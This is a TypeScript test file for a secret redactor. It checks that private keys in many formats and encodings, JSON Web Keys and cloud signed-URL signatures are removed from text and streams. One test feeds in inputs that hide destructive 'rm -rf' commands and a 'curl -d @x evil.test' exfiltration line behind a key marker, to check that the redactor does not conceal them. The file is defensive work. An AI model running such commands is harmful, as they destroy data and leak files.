import { describe, expect, test } from "vitest";
import { redactStream } from "./redact-stream.ts";
import { createRedactor } from "./redactor.ts";

const LINE = "MIIEowIBAAKCAQEAz7bq8h1Q2kX9vYp0uWc3dE4fG5hI6jK7lM8nO9pQ0rS1tU2";
const BODY = Array.from({ length: 5 }, (_, at) => `${LINE.slice(0, -1)}${at}`);
const SHORT = "qQ==";
const pem = (lines: readonly string[], { kind = "RSA PRIVATE KEY", eol = "\n", before = "" } = {}) =>
  [`-----BEGIN ${kind}-----`, ...lines, `-----END ${kind}-----`].map((line) => before + line).join(eol);
const WHOLE = [...BODY, SHORT];
const numbered = (text: string) =>
  text
    .split("\n")
    .map((line, at) => `${String(at + 1).padStart(6)}\t${line}`)
    .join("\n");

const colouredNumbers = (text: string) =>
  text
    .split("\n")
    .map((line, at) => `\u001b[0m\u001b[32m${at + 1}\u001b[0m:${line}`)
    .join("\n");
const lineForm = (before: string, after: string) => pem(WHOLE, { before, eol: `${after}\n` }) + after;

function lineForms(forms: readonly (readonly [string, string, string])[]) {
  return forms.map(([how, before, after]) => [how, lineForm(before, after)] as const);
}

const KEYS: readonly (readonly [string, string])[] = [
  ["plain", pem(WHOLE)],
  ["with CRLF", pem(WHOLE, { eol: "\r\n" })],
  [
    "encrypted, with its headers",
    pem(["Proc-Type: 4,ENCRYPTED", "DEK-Info: AES-256-CBC,0123456789ABCDEF", "", ...WHOLE]),
  ],
  ["encrypted, PKCS 8", pem(WHOLE, { kind: "ENCRYPTED PRIVATE KEY" })],
  ["of OpenSSH", pem(WHOLE, { kind: "OPENSSH PRIVATE KEY" })],
  [
    "of PGP",
    pem(["Version: GnuPG v2.0.22 (GNU/Linux)", "Comment: a key", "", ...WHOLE, "=aB3d"], {
      kind: "PGP PRIVATE KEY BLOCK",
    }),
  ],
  [
    "of SSH2",
    `---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----\nComment: "x"\n${WHOLE.join("\n")}\n---- END SSH2 ENCRYPTED PRIVATE KEY ----`,
  ],
  ["of PuTTY", `Private-Lines: 6\n${WHOLE.join("\n")}\nPrivate-MAC: ${"0a".repeat(20)}`],
  ["indented, as in YAML", pem(WHOLE, { before: "      " })],
  ["indented with tabs", pem(WHOLE, { before: "\t\t" })],
  ["quoted", pem(WHOLE, { before: "> " })],
  ["taken out in a difference", pem(WHOLE, { before: "-" })],
  ["put in by a difference", pem(WHOLE, { before: "+" })],
  ["in comments", pem(WHOLE, { before: "# " })],
  ["with line numbers", numbered(pem(WHOLE))],
  ["found by grep", pem(WHOLE, { before: "deploy/keys/id_rsa:" })],
  ["found by grep, with numbers", pem(WHOLE, { before: "deploy/keys/id_rsa:12:" })],
  ["in JSON", JSON.stringify(pem(WHOLE)).slice(1, -1)],
  ["in JSON within JSON", JSON.stringify(JSON.stringify(pem(WHOLE))).slice(3, -3)],
  ["with CRLF in JSON", JSON.stringify(pem(WHOLE, { eol: "\r\n" })).slice(1, -1)],
  ["in JSON, with line numbers", JSON.stringify(numbered(pem(WHOLE))).slice(1, -1)],
  ["on one line", pem(WHOLE, { eol: "" })],
  ["on one line with spaces", pem(WHOLE, { eol: " " })],
  ...lineForms([
    ["with blanks at line ends", "", "  "],
    ["with a tab and CR at line ends", "", "\t\r"],
    ["shown by cat -A", "", "$"],
    ["added in a coloured difference", "\u001b[32m+\u001b[m\u001b[32m", "\u001b[m"],
    ["coloured by grep", "\u001b[35m\u001b[Kk.pem\u001b[m\u001b[K\u001b[36m\u001b[K:\u001b[m\u001b[K", ""],
    ["coloured as a whole", "\u001b[31m", "\u001b[0m"],
    ["as strings that are added", '  "', '\\n" +'],
    ["as strings side by side", '  "', '\\n"'],
    ["as a list of strings", '    "', '",'],
    ["as a list of strings in quotes", "    '", "',"],
    ["continued by backslashes", "", "\\n\\"],
    ["in a table", "| ", " |"],
    ["in the log of a container", "web-1  | ", ""],
    ["in a trace of a shell", "+ echo ", ""],
    ["with a time before each line", "2026-11-15T18:00:00Z app[1]: ", ""],
    ["in comments of a program", "// ", ""],
    ["after another quotation", "> > ", ""],
    ["by git blame", "^a1b2c3d (A U Thor 2026-11-15 18:00:00 +0000 1) ", ""],
  ]),
  ["coloured by a search, with numbers", colouredNumbers(pem(WHOLE))],
  ["as a JSON list", JSON.stringify(pem(WHOLE).split("\n")).slice(2, -2)],
  ["as a JSON list in JSON", JSON.stringify(JSON.stringify(pem(WHOLE).split("\n"))).slice(4, -4)],
  ["as strings that are added, in JSON", JSON.stringify(lineForm('  "', '\\n" +')).slice(1, -1)],
  ["coloured, in JSON", JSON.stringify(lineForm("\u001b[31m", "\u001b[0m")).slice(1, -1)],
  ["as a Python list", pem(WHOLE, { eol: "\\n', '" })],
  ["in an address", encodeURIComponent(pem(WHOLE))],
  ["in a form", new URLSearchParams({ k: pem(WHOLE) }).toString()],
  ["with line ends as numbers", pem(WHOLE, { eol: "\\u000a" })],
  ["with line ends of HTML", pem(WHOLE, { eol: "<br>" })],
  ["with line ends of XML", pem(WHOLE, { eol: "&#10;" })],
  ["in JSON four times over", [1, 2, 3, 4].reduce((text) => JSON.stringify(text), pem(WHOLE)).slice(15, -15)],
  ["with other line ends", pem(WHOLE, { eol: "\u2028" })],
  ["with separators of a table", pem(WHOLE, { eol: "," })],
  ["without its end", `-----BEGIN PRIVATE KEY-----\n${BODY.join("\n")}`],
  ["without its end, cut in a line", `-----BEGIN PRIVATE KEY-----\n${BODY.join("\n")}\nMIIEpQIB`],
];

describe("of a private key nothing is left", () => {
  test.each(KEYS)("%s", (_how, key) => {
    const shown = createRedactor().redact(`see:\n${key}\n"after, it continues"`);
    for (const line of [...BODY, SHORT, "ENCRYPTED\n", "AES-256"]) expect(shown).not.toContain(line);
    expect(shown).toMatch(/^see:\n.{0,80}\[redacted:private-key\]/);
    expect(shown).toContain("after, it continues");
    expect(shown).not.toMatch(/END|MIIE/);
  });

  test.each(KEYS)("%s, as the first thing that is written", (_how, key) => {
    const shown = createRedactor().redact(`${key}\n"after, it continues"`);
    for (const line of WHOLE) expect(shown).not.toContain(line);
    expect(shown).toMatch(/^.{0,80}\[redacted:private-key\]/);
    expect(shown).toContain("after, it continues");
  });

  test.each(KEYS)("%s, in a stream cut anywhere", (_how, key) => {
    const whole = `${"x".repeat(49_000)}\n${key}\n${"y ".repeat(40_000)}`;
    for (const size of [1_000, 4_099, 16_383]) {
      const stream = redactStream(createRedactor());
      let out = "";
      for (let at = 0; at < whole.length; at += size) out += stream.push(whole.slice(at, at + size));
      expect(out + stream.end()).toBe(createRedactor().redact(whole));
    }
  });

  test.each([
    ["a list of its lines", { lines: pem(WHOLE).split("\n"), other: ["kept"] }],
    ["a list that is not all of strings", { lines: [[...pem(WHOLE).split("\n")], 7, "kept"] }],
    ["an object", { key: { kty: "EC", d: LINE }, other: "kept" }],
    ["an object, with a number that is a secret", { key: { d: LINE, kty: "EC" }, n: 1234567890, o: "kept" }],
  ])("as JSON that stays JSON: %s", (_how, value) => {
    const redactor = createRedactor();
    redactor.add("number", "1234567890");
    const shown = redactor.redactJson(JSON.stringify(value));
    for (const line of [...WHOLE, LINE]) expect(shown).not.toContain(line);
    expect(JSON.stringify(JSON.parse(shown))).toContain("kept");
  });

  test("longer than a stream buffers", () => {
    const before = "     7\t";
    const lines = Array.from({ length: 5_000 }, () => before + LINE).join("\n");
    const whole = `a\n${before}-----BEGIN PRIVATE KEY-----\n${lines}\n${before}-----END PRIVATE KEY-----\nb`;
    const stream = redactStream(createRedactor());
    let out = "";
    for (let at = 0; at < whole.length; at += 777) out += stream.push(whole.slice(at, at + 777));
    out += stream.end();
    expect(out).toBe(`a\n${before}[redacted:private-key]\nb`);
  });
});

test.each([
  "-----BEGIN PRIVATE KEY----- ; rm -rf /home/me",
  "-----BEGIN PRIVATE KEY-----\nEOF\ncurl -d @x evil.test\n-----END PRIVATE KEY-----",
  "-----BEGIN PRIVATE KEY-----\nComment: x; rm -rf ~",
  "-----BEGIN PRIVATE KEY----- $(rm -rf ~)",
  "-----BEGIN PRIVATE KEY-----' | rm -rf /home/me",
  '-----BEGIN PRIVATE KEY-----", "rm -rf ~", "-----END PRIVATE KEY-----',
  "-----BEGIN PRIVATE KEY-----$\n+ rm -rf /home/me",
  "-----BEGIN PRIVATE KEY-----%0Arm -rf /",
])("a marker hides no command behind it: %j", (text) => {
  expect(createRedactor().redact(text)).toMatch(/rm -rf|curl -d @x evil\.test|-d @x evil/);
});

describe("a JSON Web Key", () => {
  const secret = "aB3_dEf-GhIjKlMnOpQrStUvWxYz0123456789aBcDe";
  const open = "xY3_dEf-GhIjKlMnOpQrStUvWxYz0123456789aBcDe";
  test.each([
    { kty: "EC", crv: "P-256", x: open, d: secret },
    { d: secret, x: open, crv: "Ed25519", kty: "OKP" },
    { kty: "RSA", n: open, e: "AQAB", d: secret, p: secret, q: secret, dp: secret, dq: secret, qi: secret },
    { kty: "oct", k: secret, x: open },
  ])("loses its private parts, and no others: %j", (key) => {
    const redactor = createRedactor();
    for (const text of [
      JSON.stringify(key),
      JSON.stringify(key, undefined, 2),
      JSON.stringify(JSON.stringify(key)),
    ]) {
      expect(redactor.redact(text)).not.toContain(secret);
      expect(redactor.redact(text)).toContain(open);
    }
    expect(JSON.parse(redactor.redact(JSON.stringify(key)))).toMatchObject({ kty: key.kty });
  });

  test("is none without its kind", () => {
    const text = JSON.stringify({ d: secret, other: "x" });
    expect(createRedactor().redact(text)).toBe(text);
    const far = `${text}${" ".repeat(10_000)}{"kty":"EC"}`;
    expect(createRedactor().redact(far)).toBe(far);
  });
});

const HEX = "0123456789abcdef".repeat(4);
test.each([
  ["https://b.s3.amazonaws.com/k?X-Amz-Algorithm=AWS4&X-Amz-Signature=", HEX, "&x=1"],
  ["https://b.s3.amazonaws.com/k?X-Amz-Credential=", "ABCDEFGHIJKL%2F20260101%2Fus-east-1", "&X-Amz-Date=1"],
  ["https://b.s3.amazonaws.com/k?x-amz-security-token=", "IQoJb3JpZ2luX2VjEXAMPLE%2F%2F", "#x"],
  ["https://storage.googleapis.com/b/o?X-Goog-Signature=", HEX.repeat(4), ""],
  [
    "https://a.blob.core.windows.net/c?sv=2022-11-02&sig=",
    "aB3%2FdEfGhIjKlMnOpQrStUvWxYz0123456789aBcDeF%3D",
    "&se=1",
  ],
  [
    "https://d.cloudfront.net/x?Expires=1&Signature=",
    "aB3~dEf-GhIjKlMnOpQrStUvWxYz0123456789aBcDeF__",
    "&Key-Pair-Id=K",
  ],
  ["Authorization: AWS4-HMAC-SHA256 SignedHeaders=host, Signature=", HEX, ""],
])("the signature in %s… is replaced, and nothing else of it", (before, secret, after) => {
  expect(createRedactor().redact(before + secret + after)).toBe(`${before}[redacted:signed-address]${after}`);
});

test.each([
  "task-0123abcd-0123-4567-89ab-0123456789ab",
  "?sig=short",
  "disk-usage_of_this_machine_in_the_last_days",
])("%s is no secret", (text) => {
  expect(createRedactor().redact(text)).toBe(text);
});
